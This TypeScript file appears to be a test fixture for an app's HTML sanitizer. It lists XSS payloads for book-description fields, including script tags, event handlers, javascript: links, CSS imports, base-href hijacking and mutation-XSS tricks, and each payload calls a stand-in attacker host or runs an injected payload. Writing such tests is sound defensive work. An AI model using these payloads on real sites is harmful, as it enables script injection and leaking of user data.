import { EXTERNAL_ORIGIN, payload } from './hostile-book.ts';
import { ATTACKER } from './hostile-vectors.ts';

/** Hostile texts for fields such as the description of a book. Each contains one attack. */
export const hostileTexts: readonly string[] = [
  `<script>${payload('script')}</script><script src="${ATTACKER}/a.js"></script>`,
  `<img src="x" onerror="${payload('error')}"><img src="${ATTACKER}/a.png" srcset="${ATTACKER}/b.png 2x">`,
  `<svg onload="${payload('load')}"><script>${payload('svg')}</script><image href="${ATTACKER}/a.png"></image></svg>`,
  `<a href="javascript:${payload('link')}">press</a><a href="java&#10;script:${payload('split')}">press</a>`,
  `<p style="background:url(${ATTACKER}/a.png)" onclick="${payload('click')}">press</p>`,
  `<style>@import "${ATTACKER}/a.css"; p{background:image-set("${ATTACKER}/b.png" 1x)}</style><p>x</p>`,
  `<form action="${ATTACKER}/form"><input autofocus onfocus="${payload('focus')}"><button>press</button></form>`,
  `<iframe srcdoc="<script>${payload('srcdoc')}</script>"></iframe><iframe src="${ATTACKER}/frame"></iframe>`,
  `<object data="${ATTACKER}/object"></object><embed src="${ATTACKER}/embed">`,
  `<video src="${ATTACKER}/a.mp4" poster="${ATTACKER}/a.png"></video>`,
  `<link rel="stylesheet" href="${ATTACKER}/a.css"><base href="${ATTACKER}/"><img src="relative.png">`,
  `<noscript><p title='</noscript><img src=x onerror="${payload('noscript')}">'></noscript><img src="${ATTACKER}/c.png">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${payload('mutation')}&quot;&gt;"><img src="${ATTACKER}/d.png">`,
  `<div><template shadowrootmode="open"><img src="${ATTACKER}/a.png"></template></div>`,
];

/** Replaces the foreign origins in a text by `listener/name`, so that each request identifies its text. */
export const textWithCallsTo = (listener: string, name: string, text: string): string =>
  text.replaceAll(EXTERNAL_ORIGIN, ATTACKER).replaceAll(ATTACKER, `${listener}/${name}`);
